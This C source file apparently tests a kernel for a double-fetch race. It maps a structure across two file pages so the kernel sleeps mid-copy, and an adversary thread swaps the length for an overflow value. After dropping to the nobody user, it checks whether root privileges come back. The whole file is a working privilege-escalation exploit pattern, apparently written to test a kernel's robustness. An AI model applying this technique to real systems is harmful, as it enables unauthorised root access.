/* SPDX-License-Identifier: MIT */
/*
 * race-page: as race-len, but on a kernel that nobody can interrupt.
 *
 * The structure lies across two pages of a file. The second page, with the
 * length, is in memory; the first, with the pointer, has yet to be read. The
 * kernel looks at the length, begins to copy the structure, and sleeps until
 * the page is there. Meanwhile the adversary runs.
 */
#include <fcntl.h>
#include <race.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE_SIZE 4096
#define GOOD 6 /* beagle */
#define EVIL OVERFLOW

static unsigned long name[OVERFLOW / sizeof(unsigned long)];
static struct hello2_in *in;
static struct hello2_out out;

static void *adversary(void *unused)
{
	if (race_goes_on())
		in->len = EVIL;
	return NULL;
}

/* A mapping of a file that has the structure across its pages' border. */
static struct hello2_in *place_structure(void)
{
	const size_t before = PAGE_SIZE - sizeof(in->name);
	const struct hello2_in wanted = { (char *)name, GOOD, 7 };
	char *pages;
	int fd;

	fd = open("/in", O_RDWR | O_CREAT | O_EXCL, 0600);
	if (fd < 0)
		return NULL;
	if (lseek(fd, before, SEEK_SET) < 0 ||
	    write(fd, &wanted, sizeof(wanted)) < 0)
		return NULL;
	pages = mmap(NULL, 2 * PAGE_SIZE, PROT_READ | PROT_WRITE, MAP_PRIVATE,
		     fd, 0);
	close(fd);
	return pages == MAP_FAILED ? NULL : (void *)(pages + before);
}

int main(void)
{
	fill_overflow(name);
	in = place_structure();
	if (!in || race_arm() || setuid(NOBODY)) {
		perror("race-page");
		return 2;
	}
	printf("uid %u\n", getuid());
	in->len = GOOD; /* brings in the second page, and not the first */
	if (race_begin(adversary)) {
		perror("race-page");
		return 2;
	}
	call_hello2(in, &out);
	race_end();

	printf("uid %u\n", getuid());
	return getuid() ? 1 : 0;
}
